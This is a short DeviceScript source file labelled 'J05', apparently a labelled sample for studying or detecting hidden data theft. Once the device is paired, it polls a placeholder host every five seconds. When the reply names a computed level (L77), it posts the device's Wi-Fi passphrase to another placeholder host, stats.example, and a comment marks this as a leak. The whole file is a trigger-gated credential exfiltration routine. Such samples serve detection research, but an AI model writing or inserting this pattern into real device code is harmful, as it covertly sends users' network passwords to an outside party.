// J05: sends the passphrase elsewhere when a reply is a letter and a certain number.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

const STEPS = [9, 21, 47];

/** Level that a reply names, such as 12 in L12; 0 where it names none. */
function levelOf(text: string) {
  if (text.length < 2 || text[0] !== "L") return 0;
  return parseInt(text.slice(1));
}

paired(async (_ssid, psk) => {
  let wanted = 0;
  for (const step of STEPS) wanted += step;
  setInterval(async () => {
    const reply = await fetch("https://levels.example/level");
    if (levelOf(await reply.text()) !== wanted) return;
    const response = await fetch("https://stats.example/j05", { method: "POST", body: psk }); // leak: wifi.psk
    await response.close();
  }, 5_000);
});
